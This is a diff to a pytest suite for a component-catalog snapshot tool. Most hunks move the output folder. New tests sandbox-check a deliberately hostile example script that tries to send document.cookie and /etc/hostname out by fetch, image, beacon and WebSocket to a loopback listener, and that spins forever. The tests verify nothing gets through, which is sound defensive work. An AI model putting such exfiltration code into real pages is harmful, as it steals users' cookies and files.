@@ -7,6 +7,7 @@ import json
 import pathlib
 import shutil
 import subprocess
+import time
 
 import jsonschema
 import pytest
@@ -26,7 +27,7 @@ DARK_TOKENS = ["390-dark", "390-dark-theme-dark", "390-light-theme-dark"]
 
 
 def snapshot(catalog, *arguments, env=None):
-    run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(catalog / "public"), *arguments],
+    run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(catalog.parent / "public"), *arguments],
                          capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1", **(env or {})}, timeout=600)
     assert run.returncode in (0, 1), run.stderr
     return run
@@ -94,11 +95,11 @@ def test_a_dark_token_change_reports_exactly_the_images_that_use_it(catalog):
     assert {r["locations"][0]["physicalLocation"]["region"]["startLine"] for r in results} == {4, 11, 14}
 
     # The review page: each changed image approved, new and difference, and a slider.
-    page = catalog / "public" / "snapshots" / "index.html"
+    page = catalog.parent / "public" / "snapshots" / "index.html"
     html = page.read_text()
     assert html.count('class="review-item"') == 15 and "<script" in html and "<style" not in html and " style=" not in html
     for name in ["approved", "new", "difference"]:
-        assert (catalog / "public" / "snapshots" / "images" / name / "gamma" / "example-bold" / "390-dark.png").exists()
+        assert (catalog.parent / "public" / "snapshots" / "images" / name / "gamma" / "example-bold" / "390-dark.png").exists()
 
     # --update approves the change: the next run is clean.
     assert snapshot(catalog, "--update").returncode == 0
@@ -123,7 +124,7 @@ def test_the_review_page_passes_axe_and_its_slider_is_keyboard_operable(catalog,
     change_dark_accent(catalog)
     snapshot(catalog)
     # Served as a careful host serves it (the strict Content-Security-Policy of the other tests).
-    server = serve(catalog / "public")
+    server = serve(catalog.parent / "public")
     address = f"http://127.0.0.1:{server.server_address[1]}/snapshots/"
     try:
         for scheme in ["light", "dark"]:
@@ -194,13 +195,13 @@ def test_diff_with_snapshots_reports_both_and_links_the_review_page(catalog):
     git("add", "-A")
     git("commit", "-q", "-m", "approved")
     change_dark_accent(catalog)
-    run = subprocess.run([str(BINARY), "diff", "--source", str(catalog), "--snapshots", "--output", str(catalog / "public"), "--format", "markdown", "--fail-on", "any"],
+    run = subprocess.run([str(BINARY), "diff", "--source", str(catalog), "--snapshots", "--output", str(catalog.parent / "public"), "--format", "markdown", "--fail-on", "any"],
                          capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}, timeout=600)
     assert run.returncode == 1, run.stderr
     report = run.stdout
     assert "accent" in report and "#0B57D0" in report, report[:800]
     assert "## What it looks like" in report and "15 changed" in report
-    page = str(catalog / "public" / "snapshots" / "index.html")
+    page = str(catalog.parent / "public" / "snapshots" / "index.html")
     assert f"]({page})" in report
     assert report.count("snapshot.changed") == 0 and report.count("looks different from its approved image") == 15
 
@@ -221,3 +222,123 @@ def test_a_later_build_may_replace_the_folder_snapshot_made_for_its_review_page(
     subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(foreign)], capture_output=True, text=True, timeout=600)
     refused = subprocess.run([str(BINARY), "build", "--source", str(catalog), "--output", str(foreign)], capture_output=True, text=True, timeout=600)
     assert refused.returncode != 0 and "holds other files" in refused.stderr
+
+
+# #52: a contributor's example is drawn shut in. The team's script below tries every way out it
+# has — fetch, an image, a beacon, a WebSocket, a file URL, and a frame's parent — and one
+# example spins forever; the listener on this machine's loopback must receive nothing, and the
+# innocent examples must still be drawn.
+HOSTILE_SCRIPT = """
+(function () {
+  "use strict";
+  var port = %d;
+  var leak = "http://127.0.0.1:" + port + "/leak";
+  try { fetch(leak + "?fetch=" + encodeURIComponent(document.cookie)).catch(function () {}); } catch (e) {}
+  try { new Image().src = leak + "?image"; } catch (e) {}
+  try { navigator.sendBeacon(leak + "?beacon", "x"); } catch (e) {}
+  try { new WebSocket("ws://127.0.0.1:" + port + "/socket"); } catch (e) {}
+  try {
+    fetch("file:///etc/hostname").then(function (r) { return r.text(); })
+      .then(function (t) { fetch(leak + "?file=" + encodeURIComponent(t)); }).catch(function () {});
+  } catch (e) {}
+  try { fetch("http://localhost:" + port + "/leak?name").catch(function () {}); } catch (e) {}
+  if (document.querySelector("[data-spin]")) { for (;;) {} }
+})();
+"""
+
+
+def hostile_catalog(tmp_path, port):
+    for folder in ("catalog", "ui"):
+        shutil.copytree(REPOSITORY / "Tests" / "Fixtures" / "web" / folder, tmp_path / folder)
+    (tmp_path / "ui" / "ui-card.js").write_text(HOSTILE_SCRIPT % port)
+    card = tmp_path / "catalog" / "components" / "card" / "component.yaml"
+    card.write_text(card.read_text() + "  - title: Spinning\n    html: '<div class=\"ui-card\" data-spin><p>Spins.</p></div>'\n")
+    settings = tmp_path / "catalog" / "catalog.yaml"
+    settings.write_text(settings.read_text() + "snapshots:\n  widths: [390]\n  schemes: [light]\n")
+    return tmp_path / "catalog"
+
+
+class Listener:
+    """A loopback HTTP listener that counts every connection made to it."""
+
+    def __init__(self):
+        import socket
+        import threading
+        self.socket = socket.socket()
+        self.socket.bind(("127.0.0.1", 0))
+        self.socket.listen(16)
+        self.port = self.socket.getsockname()[1]
+        self.connections = []
+        self.open = True
+
+        def accept():
+            while self.open:
+                try:
+                    client, _ = self.socket.accept()
+                except OSError:
+                    return
+                client.settimeout(1)
+                try:
+                    self.connections.append(client.recv(4096))
+                except OSError:
+                    self.connections.append(b"")
+                client.close()
+
+        threading.Thread(target=accept, daemon=True).start()
+
+    def close(self):
+        self.open = False
+        self.socket.close()
+
+
+def test_an_examples_script_reaches_nothing_and_one_that_spins_stalls_no_other(tmp_path):
+    import glob
+    before = set(glob.glob("/tmp/catalog-build-snapshot-*") + glob.glob("/tmp/catalog-build-chromium-*"))
+    listener = Listener()
+    try:
+        catalog = hostile_catalog(tmp_path, listener.port)
+        run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(tmp_path / "public"), "--update",
+                              "--format", "json", "--timeout", "8"],
+                             capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}, timeout=600)
+        findings = json.loads(run.stdout or "[]")
+        not_drawn = [f for f in findings if f["rule"] == "snapshot.not-drawn"]
+        # The spinning example alone is not drawn; every other example and state is.
+        assert not_drawn and all("Spinning" in f["message"] for f in not_drawn), findings
+        drawn = sorted(str(p.relative_to(catalog / "snapshots")) for p in (catalog / "snapshots").rglob("*.png"))
+        assert any("card/web-example-with-a-long-text" in p or "card/" in p and "long" in p for p in drawn), drawn
+        assert any(p.startswith("button/") for p in drawn), drawn
+        time.sleep(1)
+        assert listener.connections == [], listener.connections
+    finally:
+        listener.close()
+    # Nothing is left behind in the temporary folder.
+    import glob
+    assert not [path for path in glob.glob("/tmp/catalog-build-snapshot-*") + glob.glob("/tmp/catalog-build-chromium-*") if path not in before]
+
+
+def test_sigterm_ends_the_browser_and_removes_what_snapshot_made(tmp_path):
+    import glob
+    import os
+    import signal
+    listener = Listener()
+    try:
+        catalog = hostile_catalog(tmp_path, listener.port)
+        process = subprocess.Popen([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(tmp_path / "public"), "--timeout", "60"],
+                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"})
+        # Wait until the browser runs (its profile folder exists), then interrupt.
+        made = lambda: {path for path in glob.glob("/tmp/catalog-build-chromium-*") + glob.glob("/tmp/catalog-build-snapshot-*")
+                        if f"-{process.pid}-" in path}
+        deadline = time.time() + 60
+        while time.time() < deadline and not any("chromium" in path for path in made()):
+            time.sleep(0.1)
+        assert made(), "the browser never started"
+        time.sleep(1)
+        process.send_signal(signal.SIGTERM)
+        output, errors = process.communicate(timeout=30)
+        assert process.returncode == 128 + signal.SIGTERM, output[-3000:] + errors
+        assert made() == set()
+        # No browser process of that run is left.
+        leftovers = subprocess.run(["pgrep", "-f", "catalog-build-chromium"], capture_output=True, text=True).stdout.split()
+        assert leftovers == [], leftovers
+    finally:
+        listener.close()
